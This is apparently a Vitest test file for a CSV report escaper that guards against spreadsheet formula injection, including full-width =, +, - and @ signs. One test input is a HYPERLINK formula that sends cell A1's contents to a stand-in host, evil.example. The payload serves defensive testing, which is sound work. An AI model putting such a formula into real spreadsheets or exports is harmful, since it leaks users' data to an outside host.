import { describe, expect, it } from 'vitest';
import { escapeCsvCell } from '../../bridge/service/report-csv';

describe('report CSV: formula injection', () => {
  it('neutralises the full-width = + - @ at the start of a cell like the ASCII ones', () => {
    for (const lead of ['＝', '＋', '－', '＠']) {
      const cell = `${lead}HYPERLINK("http://evil.example/?"&A1,"x")`;
      const out = escapeCsvCell(cell);
      // Quoted because of the comma and quotes; the apostrophe comes first inside the quotes.
      expect(out.startsWith(`"'${lead}`), out).toBe(true);
    }
    expect(escapeCsvCell('＝1+1')).toBe(`'＝1+1`);
    expect(escapeCsvCell('＠SUM(A1)')).toBe(`'＠SUM(A1)`);
  });

  it('leaves full-width signs inside a cell and ordinary text alone', () => {
    expect(escapeCsvCell('张三＝经理')).toBe('张三＝经理');
    expect(escapeCsvCell('user@example.com')).toBe('user@example.com');
    expect(escapeCsvCell('－')).toBe(`'－`);
  });
});
